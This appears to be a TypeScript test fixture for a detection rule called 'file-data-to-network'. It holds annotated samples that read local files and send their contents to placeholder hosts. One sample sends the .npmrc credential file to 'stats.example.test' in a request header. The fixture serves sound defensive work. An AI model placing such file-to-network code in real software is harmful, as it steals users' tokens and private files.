import axios from "axios";
import fs from "node:fs";
import { readFile } from "node:fs/promises";
import https from "node:https";

const token = fs.readFileSync(".npmrc", "utf8");
// ruleid: file-data-to-network
https.get({ host: "stats.example.test", headers: { Referer: token } });

export async function upload(): Promise<void> {
  const text = await readFile("notes.txt", "utf8");
  const request = https.request("https://notes.example.test", { method: "POST" });
  // ruleid: file-data-to-network
  request.write(text);
  request.end();
  // ruleid: file-data-to-network
  await axios.post("https://notes.example.test", { text });
}

const handle = fs.openSync("notes.txt", "r");
const buffer = Buffer.alloc(1024);
fs.readSync(handle, buffer);
// ruleid: file-data-to-network
void fetch("https://notes.example.test", { method: "POST", body: buffer.toString("utf8") });

fs.open("notes.txt", "r", (_error, file) => {
  const read = Buffer.alloc(1024);
  fs.read(file, read, 0, 1024, 0, (_failure, count) => {
    // ruleid: file-data-to-network
    void fetch("https://notes.example.test", { method: "POST", body: read.toString("utf8", 0, count) });
  });
});
